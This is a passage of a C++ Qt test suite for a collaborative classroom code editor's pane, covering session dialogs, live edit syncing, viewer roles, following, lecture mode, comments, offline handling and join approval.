// SPDX-License-Identifier: GPL-3.0-or-later
// SPDX-FileCopyrightText: Cohort developers
#include "clientfixture.h"
#include "codeclient.h"
#include "codecommentmodel.h"
#include "codedialogs.h"
#include "codefilemodel.h"
#include "codepane.h"
#include "codeparticipantmodel.h"
#include "codesession.h"
#include "codesessionfile.h"
#include "codestorage.h"
#include "codeview.h"
#include "collabeditor.h"
#include "commentspanel.h"
#include "emptystate.h"
#include "filetreepanel.h"
#include "messagebanner.h"
#include "participantspanel.h"
#include "sessionexport.h"
#include "sessionlistdelegate.h"
#include "versionsdialog.h"

#include <QApplication>
#include <QPalette>
#include <QPixmap>
#include <QCheckBox>
#include <QClipboard>
#include <QComboBox>
#include <QDialogButtonBox>
#include <QDir>
#include <QFile>
#include <QFileDialog>
#include <QFileInfo>
#include <QLabel>
#include <QInputDialog>
#include <QMessageBox>
#include <QLineEdit>
#include <QAction>
#include <QListWidget>
#include <QMenu>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QScrollBar>
#include <QSignalSpy>
#include <QSpinBox>
#include <QTabWidget>
#include <QTextDocument>
#include <QToolButton>
#include <QTimer>
#include <QTreeWidget>

#include <algorithm>
#include <memory>

using namespace Cohort;
using namespace Cohort::Test;
using namespace Cohort::Ui;
using Client::CodeFileId;
using Client::CodeRole;
using Client::CodeSession;
using Client::CodeSessionId;

/// The Code pane offscreen against a real in-process server: each person is a Connection, a
/// CodeClient and a CodePane of their own. Typing in one pane reaches the other, a remote edit
/// does not move the local caret, a viewer's editor is read-only and says why, following
/// switches files, the comments panel lists a new comment and jumps to its line, and the
/// export writes a folder or a zip.
class TestCodePane : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();
    void emptyStates();
    void newSessionDialog();
    void typingReachesTheOtherPane();
    void largePasteReachesEveryone();
    void remoteEditKeepsTheLocalCaret();
    void viewerIsReadOnlyAndToldWhy();
    void followSwitchesFileAndEscStops();
    void lectureModeMakesViewersFollowTheHost();
    void commentsPanelListsAndJumps();
    void commentTextSurvivesAFailure();
    void approvalKeepsJoinersWaiting();
    void removedParticipantIsToldAndMayAsk();
    void versionLimitIsExplained();
    void joinWithAccessCode();
    void importsSmallAndLargeFiles();
    void exportWritesFolderAndZip();
    void fileTreeKeepsFoldersAndScroll();
    void sidePanelsStayPutWhileOthersWork();
    void longNamesFit();
    void followerSeesAScroll();
    void ownerArchivesAndDeletes();
    void dialogsShowTheTitleAsWritten();
    void archivedSessionOffersNoCommentWrites();
    void unlockRefusedKeepsTheLock();
    void refusedEditsOfferACopy();
    void refusedEditsOfADotFileProposeItsName();
    void leavingOfflineKeepsUnsentEdits();
    void adminFindsEveryArchivedSession();
    void archivedListSaysWhoSeesItAndWhereItStops();
    void storedSessionLimitSaysWhatHelps();

private:
    struct Person
    {
        std::unique_ptr<Client::Connection> connection;
        std::unique_ptr<Client::CodeClient> code;
        std::unique_ptr<CodePane> pane;
    };
    std::unique_ptr<Person> person(const QString &username, TestNetwork *network = nullptr);
    CodeSessionId createSession(Person &host, const QString &title);
    CodeFileId createFile(Person &person, const QString &path, const QString &content);
    /// Opens the session in the person's pane and waits until joined.
    bool enter(Person &person, CodeSessionId id);
    /// Opens the file in the pane and waits for its text.
    CollabEditor *openLoaded(Person &person, CodeFileId file);
    /// The person's network goes down, and they type `typed` at the start of the editor's
    /// second line with the keyboard; false if the connection did not drop.
    static bool typeOffline(Person &person, TestNetwork &network, CollabEditor *editor, const QString &typed);

    std::unique_ptr<RestartableServer> m_server;
    QTemporaryDir m_caches;
    UserId m_ines;
    UserId m_ana;
    CourseId m_course;
    int m_devices = 0;
};

void TestCodePane::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
}

void TestCodePane::init()
{
    m_server = std::make_unique<RestartableServer>();
    QCOMPARE(m_server->start(), QString());
    m_ines = m_server->addUser(QStringLiteral("ines"), Role::Instructor);
    m_ana = m_server->addUser(QStringLiteral("ana"), Role::Student);
    m_course = m_server->addCourse(QStringLiteral("Algorithms"), m_ines, {m_ana}).id;
    QVERIFY(m_course.isValid());
}

void TestCodePane::cleanup()
{
    m_server.reset();
}

std::unique_ptr<TestCodePane::Person> TestCodePane::person(const QString &username, TestNetwork *network)
{
    auto p = std::make_unique<Person>();
    p->connection = makeConnection(m_caches.filePath(username + QString::number(++m_devices)), network);
    p->code = std::make_unique<Client::CodeClient>(p->connection.get());
    p->code->setCursorInterval(10);
    if (!signIn(*p->connection, m_server->url(), username).ok)
        return nullptr;
    p->pane = std::make_unique<CodePane>(p->code.get(), p->connection.get());
    p->pane->resize(1100, 700);
    p->pane->show();
    return p;
}

CodeSessionId TestCodePane::createSession(Person &host, const QString &title)
{
    std::optional<Client::CodeSessionInfo> created;
    bool done = false;
    Client::NewCodeSession settings;
    settings.title = title;
    settings.courseId = m_course;
    settings.visibility = QStringLiteral("course");
    host.code->createSession(settings, host.code.get(),
                             [&](const Client::Reply &, const std::optional<Client::CodeSessionInfo> &info) {
        created = info;
        done = true;
    });
    if (!QTest::qWaitFor([&done] { return done; }, 5000) || !created)
        return {};
    return created->id;
}

CodeFileId TestCodePane::createFile(Person &person, const QString &path, const QString &content)
{
    std::optional<Client::CodeFileInfo> file;
    bool done = false;
    person.pane->session()->createFile(path, QStringLiteral("python"), content, person.code.get(),
                                       [&](const Client::Reply &, const std::optional<Client::CodeFileInfo> &info) {
        file = info;
        done = true;
    });
    if (!QTest::qWaitFor([&done] { return done; }, 5000) || !file)
        return {};
    return file->id;
}

bool TestCodePane::enter(Person &person, CodeSessionId id)
{
    person.pane->openSession(id);
    return QTest::qWaitFor([&person] {
        return person.pane->session() && person.pane->session()->state() == CodeSession::State::Joined;
    }, 5000);
}

bool TestCodePane::typeOffline(Person &person, TestNetwork &network, CollabEditor *editor, const QString &typed)
{
    network.down = true;
    network.current->close(1001, QStringLiteral("gone"));
    Client::Connection *connection = person.connection.get();
    if (!QTest::qWaitFor([connection] { return connection->state() != Client::Connection::State::Connected; }, 5000))
        return false;
    editor->setFocus();
    editor->setCursorPosition(1, 0);
    QTest::keyClicks(editor, typed);
    return true;
}

CollabEditor *TestCodePane::openLoaded(Person &person, CodeFileId file)
{
    person.pane->openFile(file);
    CodeView *view = person.pane->viewFor(file);
    if (!view)
        return nullptr;
    Client::CodeSessionFile *opened = person.pane->session()->openedFile(file);
    if (!QTest::qWaitFor([opened] { return opened && opened->isLoaded(); }, 5000))
        return nullptr;
    return view->editor();
}

void TestCodePane::emptyStates()
{
    auto ines = person(QStringLiteral("ines"));
    QVERIFY(ines);
    // No sessions yet: the list page explains what a session is and offers both ways in.
    QTRY_VERIFY(ines->pane->noSessionsState()->isVisible());
    QVERIFY(ines->pane->noSessionsState()->text().size() > 60);
    QVERIFY(ines->pane->findChild<QToolButton *>(QStringLiteral("emptyNewSessionButton"))->isVisible());
    QVERIFY(ines->pane->findChild<QToolButton *>(QStringLiteral("emptyJoinButton"))->isVisible());

    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab 1"));
    QVERIFY(id.isValid());
    ines->pane->refreshSessions();
    QTRY_COMPARE(ines->pane->sessionList()->count(), 1);
    QVERIFY(ines->pane->sessionList()->item(0)->text().startsWith(QLatin1String("Lab 1")));

    // A session with no files says so, in the centre and in the file tree.
    QVERIFY(enter(*ines, id));
    QTRY_COMPARE(ines->pane->centerState()->title(), QStringLiteral("This session has no files yet"));
    QVERIFY(ines->pane->centerState()->isVisible());
    auto *noFiles = ines->pane->fileTree()->findChild<QLabel *>(QStringLiteral("noFilesState"));
    QVERIFY(noFiles->isVisible());
    QVERIFY(ines->pane->findChild<QToolButton *>(QStringLiteral("centerNewFileButton"))->isVisible());
    QVERIFY(ines->pane->findChild<QToolButton *>(QStringLiteral("centerImportButton"))->isVisible());
    // No comments yet.
    ines->pane->sideTabs()->setCurrentWidget(ines->pane->commentsPanel());
    QVERIFY(ines->pane->commentsPanel()->findChild<EmptyState *>(QStringLiteral("noCommentsState"))->isVisible());

    // The first file replaces both empty states and opens.
    const CodeFileId file = createFile(*ines, QStringLiteral("src/main.py"), QStringLiteral("print('hi')\n"));
    QVERIFY(file.isValid());
    QTRY_VERIFY(ines->pane->fileTree()->itemFor(file));
    QVERIFY(!noFiles->isVisible());
    QCOMPARE(ines->pane->fileTree()->itemFor(file)->parent()->text(0), QStringLiteral("src"));
    QTRY_COMPARE(ines->pane->currentFile(), file);
}

void TestCodePane::newSessionDialog()
{
    CourseInfo course;
    course.id = CourseId(7);
    course.name = QStringLiteral("Algorithms");
    course.memberRole = Role::Instructor;
    CourseInfo taken;
    taken.id = CourseId(8);
    taken.name = QStringLiteral("Databases");
    taken.memberRole = Role::Student;
    NewSessionDialog dialog({course, taken});
    auto *create = dialog.findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok);
    QVERIFY(!create->isEnabled());
    dialog.titleEdit()->setText(QStringLiteral("  Lab 2 "));
    QVERIFY(create->isEnabled());
    auto *everyone = dialog.everyoneBox();
    QVERIFY(!everyone->isEnabled()); // no course: private
    QVERIFY(dialog.scopeHint()->isHidden());
    // A course the user takes as a student: the server would refuse a course-wide session,
    // so it is not offered and the dialog says how to share instead.
    dialog.courseBox()->setCurrentIndex(2);
    QVERIFY(!everyone->isEnabled());
    QVERIFY(!dialog.scopeHint()->isHidden());
    QCOMPARE(dialog.session().visibility, QStringLiteral("private"));
    QCOMPARE(dialog.session().courseId, CourseId(8));
    // An admin may in any course.
    NewSessionDialog adminDialog({taken}, true);
    adminDialog.courseBox()->setCurrentIndex(1);
    QVERIFY(adminDialog.everyoneBox()->isEnabled());
    QVERIFY(adminDialog.scopeHint()->isHidden());
    dialog.courseBox()->setCurrentIndex(1);
    QVERIFY(everyone->isEnabled());
    QVERIFY(dialog.scopeHint()->isHidden());
    everyone->setChecked(true);
    // The server takes access codes of 4 to 64 characters: a shorter one is not sent to fail.
    dialog.accessCodeEdit()->setText(QStringLiteral(" PX7 "));
    QVERIFY(!create->isEnabled());
    dialog.accessCodeEdit()->setText(QStringLiteral("PX7Q-MM2D"));
    QVERIFY(create->isEnabled());
    const Client::NewCodeSession session = dialog.session();
    QCOMPARE(session.title, QStringLiteral("Lab 2"));
    QCOMPARE(session.courseId, CourseId(7));
    QCOMPARE(session.visibility, QStringLiteral("course"));
    QCOMPARE(session.accessCode, QStringLiteral("PX7Q-MM2D"));

    JoinWithCodeDialog join(CodeSessionId(4));
    auto *ok = join.findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok);
    QVERIFY(!ok->isEnabled());
    join.codeEdit()->setText(QStringLiteral(" px7q-mm2d "));
    QVERIFY(ok->isEnabled());
    QCOMPARE(join.session(), CodeSessionId(4));
    QCOMPARE(join.code(), QStringLiteral("px7q-mm2d"));

    FilePathDialog path(QStringLiteral("Create"), QStringLiteral("main.py"), {QStringLiteral("main.py")},
                        FilePathDialog::Select::FileName);
    auto *pathOk = path.findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok);
    QVERIFY(!pathOk->isEnabled()); // taken
    path.pathEdit()->setText(QStringLiteral("../secret.py"));
    QVERIFY(!pathOk->isEnabled());
    path.pathEdit()->setText(QStringLiteral("src/util.py"));
    QVERIFY(pathOk->isEnabled());

    // Typed over the selection: a new file's whole suggested name, a renamed file's base name.
    FilePathDialog created(QStringLiteral("Create"), QStringLiteral("src/main.py"), {}, FilePathDialog::Select::FileName);
    created.show();
    QTest::keyClicks(created.pathEdit(), QStringLiteral("leapfrog.py"));
    QCOMPARE(created.path(), QStringLiteral("src/leapfrog.py"));
    FilePathDialog rename(QStringLiteral("Rename"), QStringLiteral("src/main.py"), {}, FilePathDialog::Select::BaseName);
    rename.show();
    QTest::keyClicks(rename.pathEdit(), QStringLiteral("leapfrog"));
    QCOMPARE(rename.path(), QStringLiteral("src/leapfrog.py"));
    FilePathDialog dotFile(QStringLiteral("Rename"), QStringLiteral(".env"), {}, FilePathDialog::Select::BaseName);
    dotFile.show();
    QTest::keyClicks(dotFile.pathEdit(), QStringLiteral(".envrc"));
    QCOMPARE(dotFile.path(), QStringLiteral(".envrc"));
}

void TestCodePane::typingReachesTheOtherPane()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    const CodeFileId file = createFile(*ines, QStringLiteral("main.py"), QStringLiteral("x = 1\n"));
    QVERIFY(enter(*ana, id));
    CollabEditor *inesEditor = openLoaded(*ines, file);
    CollabEditor *anaEditor = openLoaded(*ana, file);
    QVERIFY(inesEditor && anaEditor);
    QCOMPARE(anaEditor->text(), QStringLiteral("x = 1\n"));
    QVERIFY(!anaEditor->isReadOnly()); // a new participant is an editor

    inesEditor->setFocus();
    inesEditor->setCursorPosition(1, 0);
    QTest::keyClicks(inesEditor, QStringLiteral("y = 2"));
    // Local typing is in the editor at once, before any answer of the server.
    QCOMPARE(inesEditor->text(), QStringLiteral("x = 1\ny = 2"));
    QTRY_COMPARE(anaEditor->text(), QStringLiteral("x = 1\ny = 2"));

    // Ana's caret shows in Ines's editor with Ana's name.
    anaEditor->setCursorPosition(0, 2);
    QTRY_VERIFY(inesEditor->remoteCursor(quint64(m_ana.value())).has_value());
    QTRY_COMPARE(inesEditor->remoteCursor(quint64(m_ana.value()))->second, qsizetype(2));
    // ...and the file tree shows a dot for her on main.py.
    QTRY_VERIFY(!ines->pane->fileTree()->itemFor(file)->icon(1).isNull());
    QVERIFY(ines->pane->fileTree()->itemFor(file)->toolTip(1).contains(QLatin1String("ANA")));
}

void TestCodePane::largePasteReachesEveryone()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    const CodeFileId file = createFile(*ines, QStringLiteral("main.py"), QStringLiteral("# start\n"));
    QVERIFY(enter(*ana, id));
    CollabEditor *inesEditor = openLoaded(*ines, file);
    CollabEditor *anaEditor = openLoaded(*ana, file);
    QVERIFY(inesEditor && anaEditor);

    // 200 KiB in one paste, six times the server's limit of one update, with characters of
    // two and four bytes across the pieces' ends.
    QString pasted;
    for (int i = 0; pasted.size() < 200 * 1024; ++i)
        pasted += QStringLiteral("print(\"Größe %1 😀\")\n").arg(i);
    QApplication::clipboard()->setText(pasted);
    QSignalSpy refused(ines->pane->session()->openedFile(file), &Client::CodeSessionFile::editRefused);
    inesEditor->setFocus();
    inesEditor->setCursorPosition(1, 0);
    inesEditor->paste();
    const QString expected = QStringLiteral("# start\n") + pasted;
    QCOMPARE(inesEditor->text(), expected);
    QTRY_COMPARE_WITH_TIMEOUT(anaEditor->text(), expected, 20000);
    QTRY_VERIFY(!ines->pane->session()->openedFile(file)->hasUnsentChanges());
    QCOMPARE(refused.count(), 0);
    QCOMPARE(inesEditor->text(), expected);
    // A late joiner gets it from the server too.
    auto late = person(QStringLiteral("ana"));
    QVERIFY(late && enter(*late, id));
    CollabEditor *lateEditor = openLoaded(*late, file);
    QVERIFY(lateEditor);
    QTRY_COMPARE(lateEditor->text(), expected);
}

void TestCodePane::remoteEditKeepsTheLocalCaret()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    const CodeFileId file = createFile(*ines, QStringLiteral("main.py"), QStringLiteral("def f():\n    return 1\n"));
    QVERIFY(enter(*ana, id));
    CollabEditor *inesEditor = openLoaded(*ines, file);
    CollabEditor *anaEditor = openLoaded(*ana, file);
    QVERIFY(inesEditor && anaEditor);

    // Ana's caret is after "ret" on line 1; Ines adds two lines above and types on Ana's line.
    anaEditor->setCursorPosition(1, 7);
    inesEditor->setCursorPosition(0, 0);
    QTest::keyClicks(inesEditor, QStringLiteral("import os"));
    QTest::keyClick(inesEditor, Qt::Key_Return);
    QTest::keyClick(inesEditor, Qt::Key_Return);
    inesEditor->setCursorPosition(3, 4);
    QTest::keyClicks(inesEditor, QStringLiteral("# "));
    QTRY_COMPARE(anaEditor->text(), inesEditor->text());
    int line = -1;
    int index = -1;
    anaEditor->getCursorPosition(&line, &index);
    QCOMPARE(line, 3);
    QCOMPARE(index, 9);
    QCOMPARE(anaEditor->text(line).mid(index - 3, 3), QStringLiteral("ret"));
}

void TestCodePane::viewerIsReadOnlyAndToldWhy()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    const CodeFileId file = createFile(*ines, QStringLiteral("main.py"), QStringLiteral("x = 1\n"));
    QVERIFY(enter(*ana, id));
    CollabEditor *anaEditor = openLoaded(*ana, file);
    QVERIFY(anaEditor);
    QVERIFY(!anaEditor->isReadOnly());
    QVERIFY(!ana->pane->roleBanner()->isVisible());

    // The host's menu on Ana's row makes her a viewer.
    ines->pane->sideTabs()->setCurrentWidget(ines->pane->participantsPanel());
    QTRY_VERIFY(ines->pane->participantsPanel()->menuButton(m_ana));
    ines->pane->session()->setRole(m_ana, CodeRole::Viewer);
    QTRY_VERIFY(anaEditor->isReadOnly());
    QTRY_VERIFY(ana->pane->roleBanner()->isVisible());
    QVERIFY(ana->pane->roleBanner()->text().contains(QLatin1String("viewer")));
    // Viewers do not get file tools.
    QVERIFY(!ana->pane->fileTree()->findChild<QToolButton *>(QStringLiteral("newFileButton"))->isVisible());

    anaEditor->setFocus();
    anaEditor->setCursorPosition(0, 0);
    QTest::keyClicks(anaEditor, QStringLiteral("zzz"));
    QCOMPARE(anaEditor->text(), QStringLiteral("x = 1\n"));
    QCOMPARE(ana->pane->roleBanner()->kind(), MessageBanner::Kind::Warning);
    QCOMPARE(ines->pane->session()->openFile(file)->text(), QStringLiteral("x = 1\n"));
}

void TestCodePane::followSwitchesFileAndEscStops()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    const CodeFileId first = createFile(*ines, QStringLiteral("a.py"), QStringLiteral("a = 1\n"));
    const CodeFileId second = createFile(*ines, QStringLiteral("b.py"), QStringLiteral("b = 2\n"));
    QVERIFY(openLoaded(*ines, first));
    QVERIFY(enter(*ana, id));
    QVERIFY(openLoaded(*ana, first));

    ana->pane->sideTabs()->setCurrentWidget(ana->pane->participantsPanel());
    QTRY_VERIFY(ana->pane->participantsPanel()->followButton(m_ines));
    QTRY_VERIFY(ana->pane->participantsPanel()->followButton(m_ines)->isEnabled());
    ana->pane->participantsPanel()->followButton(m_ines)->click();
    QTRY_COMPARE(ana->pane->session()->following(), m_ines);
    QTRY_VERIFY(ana->pane->followBanner()->isVisible());
    QCOMPARE(ana->pane->followBanner()->text(), QStringLiteral("Following INES — Esc to stop"));

    // Ines switches files: Ana's pane goes along, to the same place in the file.
    CollabEditor *inesSecond = openLoaded(*ines, second);
    QVERIFY(inesSecond);
    QString many;
    for (int i = 0; i < 200; ++i)
        many += QStringLiteral("x%1 = %1\n").arg(i);
    inesSecond->setFocus();
    inesSecond->setCursorPosition(1, 0);
    inesSecond->insert(many);
    inesSecond->setFirstVisibleLine(120);
    QTRY_COMPARE(ana->pane->currentFile(), second);
    QTRY_COMPARE(ana->pane->currentView()->editor()->firstVisibleLine(), 120);

    QTest::keyClick(ana->pane->currentView()->editor(), Qt::Key_Escape);
    QTRY_VERIFY(!ana->pane->session()->following().isValid());
    QVERIFY(!ana->pane->followBanner()->isVisible());
    QVERIFY(openLoaded(*ines, first));
    // Not following any more: Ana sees Ines move to a.py and stays where she is.
    QTRY_COMPARE(ana->pane->session()->fileOf(m_ines), first);
    QCoreApplication::processEvents();
    QCOMPARE(ana->pane->currentFile(), second);
}

void TestCodePane::lectureModeMakesViewersFollowTheHost()
{
    auto ines = person(QStringLiteral("ines"));
    QVERIFY(ines);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lecture"));
    QVERIFY(enter(*ines, id));
    const CodeFileId first = createFile(*ines, QStringLiteral("a.py"), QStringLiteral("a = 1\n"));
    const CodeFileId second = createFile(*ines, QStringLiteral("b.py"), QStringLiteral("b = 2\n"));
    QVERIFY(openLoaded(*ines, first));
    QVERIFY(ines->pane->lectureButton()->isVisible());
    ines->pane->lectureButton()->click();
    QTRY_VERIFY(ines->pane->session()->info().lecture);

    // A student who joins during the lecture is a viewer who reads along with the host.
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ana);
    QVERIFY(enter(*ana, id));
    QCOMPARE(ana->pane->session()->myRole(), CodeRole::Viewer);
    QVERIFY(!ana->pane->lectureButton()->isVisible());
    QTRY_COMPARE(ana->pane->session()->following(), m_ines);
    QTRY_VERIFY(ana->pane->roleBanner()->text().contains(QLatin1String("Lecture mode")));
    QVERIFY(openLoaded(*ines, second));
    QTRY_COMPARE(ana->pane->currentFile(), second);
    QTRY_VERIFY(ana->pane->currentView()->editor()->isReadOnly());

    // Pass the pen, and take it back.
    ines->pane->session()->setRole(m_ana, CodeRole::Editor);
    QTRY_VERIFY(!ana->pane->currentView()->editor()->isReadOnly());
    ines->pane->session()->setRole(m_ana, CodeRole::Viewer);
    QTRY_VERIFY(ana->pane->currentView()->editor()->isReadOnly());
}

void TestCodePane::commentsPanelListsAndJumps()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    QString text;
    for (int i = 0; i < 60; ++i)
        text += QStringLiteral("line_%1 = %1\n").arg(i);
    const CodeFileId file = createFile(*ines, QStringLiteral("long.py"), text);
    QVERIFY(enter(*ana, id));
    CollabEditor *inesEditor = openLoaded(*ines, file);
    CollabEditor *anaEditor = openLoaded(*ana, file);
    QVERIFY(inesEditor && anaEditor);

    // Ana selects lines 41-43 (from 1) and comments through the panel.
    anaEditor->setSelection(40, 0, 43, 0);
    CommentsPanel *anaComments = ana->pane->commentsPanel();
    ana->pane->sideTabs()->setCurrentWidget(anaComments);
    QTRY_VERIFY(anaComments->findChild<QLabel *>(QStringLiteral("commentTarget"))->text().contains(QStringLiteral("lines 41–43")));
    anaComments->newCommentEdit()->setPlainText(QStringLiteral("Why start at 40?"));
    QVERIFY(anaComments->addButton()->isEnabled());
    anaComments->addButton()->click();

    // Both panels list it; Ines's editor has its margin marker on line 40 (from 0).
    CommentsPanel *inesComments = ines->pane->commentsPanel();
    ines->pane->sideTabs()->setCurrentWidget(inesComments);
    QTRY_COMPARE(inesComments->threads()->topLevelItemCount(), 1);
    QTreeWidgetItem *item = inesComments->threads()->topLevelItem(0);
    QVERIFY(item->text(0).contains(QStringLiteral("long.py:41–43")));
    QVERIFY(item->text(0).contains(QLatin1String("Why start at 40?")));
    QTRY_COMPARE(inesEditor->comments().size(), 1);
    QCOMPARE(inesEditor->comments().at(0).firstLine, 40);
    QCOMPARE(inesEditor->comments().at(0).lastLine, 42);

    // Clicking the thread puts Ines's caret on its first line, scrolled into view.
    inesEditor->setCursorPosition(0, 0);
    inesEditor->setFirstVisibleLine(0);
    const QRect rect = inesComments->threads()->visualItemRect(item);
    QTest::mouseClick(inesComments->threads()->viewport(), Qt::LeftButton, {}, rect.center());
    int line = -1;
    int index = -1;
    inesEditor->getCursorPosition(&line, &index);
    QCOMPARE(line, 40);
    QVERIFY(inesEditor->firstVisibleLine() > 0);

    // Reply and resolve: the thread leaves the list (resolved threads are hidden by default).
    inesComments->replyEdit()->setPlainText(QStringLiteral("Because of the warm-up."));
    inesComments->replyButton()->click();
    QTRY_COMPARE(anaComments->threads()->topLevelItemCount(), 1);
    QTRY_COMPARE(anaComments->threads()->topLevelItem(0)->childCount(), 1);
    inesComments->selectThread(inesComments->currentThread());
    inesComments->resolveButton()->click();
    QTRY_COMPARE(anaComments->threads()->topLevelItemCount(), 0);
    QTRY_COMPARE(anaEditor->comments().size(), 0);
    anaComments->showResolvedBox()->setChecked(true);
    QCOMPARE(anaComments->threads()->topLevelItemCount(), 1);
    QVERIFY(anaComments->threads()->topLevelItem(0)->text(0).contains(QLatin1String("resolved")));

    // Comments are exported with the files, as COMMENTS.md; beside a session file of that name
    // in other letter case (one file on Windows and macOS) as COMMENTS-2.md.
    QVERIFY(createFile(*ines, QStringLiteral("Comments.md"), QStringLiteral("# our notes\n")).isValid());
    QTemporaryDir out;
    ines->pane->exportTo(out.path(), false);
    QTRY_VERIFY(QFile::exists(out.filePath(QStringLiteral("COMMENTS-2.md"))));
    QVERIFY(QFile::exists(out.filePath(QStringLiteral("long.py"))));
    QVERIFY(!QFile::exists(out.filePath(QStringLiteral("COMMENTS.md"))));
    QFile notes(out.filePath(QStringLiteral("Comments.md")));
    QVERIFY(notes.open(QIODevice::ReadOnly));
    QCOMPARE(notes.readAll(), QByteArray("# our notes\n"));
    QFile report(out.filePath(QStringLiteral("COMMENTS-2.md")));
    QVERIFY(report.open(QIODevice::ReadOnly));
    const QString markdown = QString::fromUtf8(report.readAll());
    QVERIFY2(markdown.contains(QStringLiteral("## long.py, lines 41–43 (resolved)")), qPrintable(markdown));
    QVERIFY(markdown.contains(QLatin1String("Why start at 40?")));
    QVERIFY(markdown.contains(QLatin1String("> **INES**")));
}

void TestCodePane::commentTextSurvivesAFailure()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    const CodeFileId file = createFile(*ines, QStringLiteral("main.py"), QStringLiteral("a = 1\nb = 2\n"));
    QVERIFY(enter(*ana, id));
    CollabEditor *anaEditor = openLoaded(*ana, file);
    QVERIFY(anaEditor);
    CommentsPanel *comments = ana->pane->commentsPanel();
    ana->pane->sideTabs()->setCurrentWidget(comments);
    anaEditor->setSelection(1, 0, 1, 3);
    QTRY_VERIFY(comments->newCommentEdit()->isEnabled());

    // Ana's Wi-Fi drops while she writes: Comment fails, and her text stays with the reason.
    QVERIFY(m_server->stop());
    QTRY_VERIFY(ana->connection->state() != Client::Connection::State::Connected);
    const QString written = QStringLiteral("Why is b not a constant? I thought we said so in week 2.");
    comments->newCommentEdit()->setPlainText(written);
    QVERIFY(comments->addButton()->isEnabled());
    comments->addButton()->click();
    QTRY_VERIFY(comments->commentError()->isVisible());
    QCOMPARE(comments->newCommentEdit()->toPlainText(), written);
    QVERIFY(comments->commentError()->text().contains(QLatin1String("kept")));
    QVERIFY(comments->addButton()->isEnabled()); // she can try again

    // Back online, Comment again: it is stored, the box empties and the error goes.
    QCOMPARE(m_server->start(), QString());
    QTRY_COMPARE_WITH_TIMEOUT(ana->pane->session()->state(), CodeSession::State::Joined, 20000);
    QTRY_VERIFY_WITH_TIMEOUT(ana->pane->session()->openedFile(file)->syncState()
                                 == Client::CodeSessionFile::SyncState::Synced, 20000);
    comments->addButton()->click();
    QTRY_COMPARE(comments->threads()->topLevelItemCount(), 1);
    QTRY_VERIFY(comments->newCommentEdit()->toPlainText().isEmpty());
    QVERIFY(!comments->commentError()->isVisible());

    // A reply that fails keeps its text too.
    comments->selectThread(ana->pane->session()->comments()->comments().constFirst().id);
    QVERIFY(m_server->stop());
    QTRY_VERIFY(ana->connection->state() != Client::Connection::State::Connected);
    comments->replyEdit()->setPlainText(QStringLiteral("Never mind, found it."));
    QVERIFY(comments->replyButton()->isEnabled());
    comments->replyButton()->click();
    QTRY_VERIFY(comments->replyError()->isVisible());
    QCOMPARE(comments->replyEdit()->toPlainText(), QStringLiteral("Never mind, found it."));
}

void TestCodePane::approvalKeepsJoinersWaiting()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Exam review"));
    QVERIFY(enter(*ines, id));
    QVERIFY(ines->pane->findChild<QToolButton *>(QStringLiteral("accessButton"))->isVisible());
    ines->pane->approvalAction()->trigger();
    QTRY_VERIFY(ines->pane->session()->info().approval);

    ana->pane->openSession(id);
    QTRY_COMPARE(ana->pane->session()->state(), CodeSession::State::Pending);
    QCOMPARE(ana->pane->centerState()->title(), QStringLiteral("Waiting for the host"));
    // The host is told, and Ana's row in People waits with the host's menu.
    QTRY_VERIFY(ines->pane->findChild<MessageBanner *>(QStringLiteral("codeError"))->text().contains(QLatin1String("ANA")));
    QTRY_VERIFY(ines->pane->participantsPanel()->menuButton(m_ana));
    QVERIFY(!ines->pane->participantsPanel()->followButton(m_ana));
    ines->pane->session()->approve(m_ana, true);
    QTRY_COMPARE(ana->pane->session()->state(), CodeSession::State::Joined);
    QTRY_VERIFY(ana->pane->participantsPanel()->followButton(m_ines));
}

void TestCodePane::removedParticipantIsToldAndMayAsk()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    QVERIFY(enter(*ana, id));
    QTRY_VERIFY(ines->pane->participantsPanel()->menuButton(m_ana));
    ines->pane->session()->removeParticipant(m_ana);
    QTRY_COMPARE(ana->pane->session()->state(), CodeSession::State::Refused);
    QCOMPARE(ana->pane->session()->refusal(), CodeSession::Refusal::Removed);
    QCOMPARE(ana->pane->centerState()->title(), QStringLiteral("Could not join"));
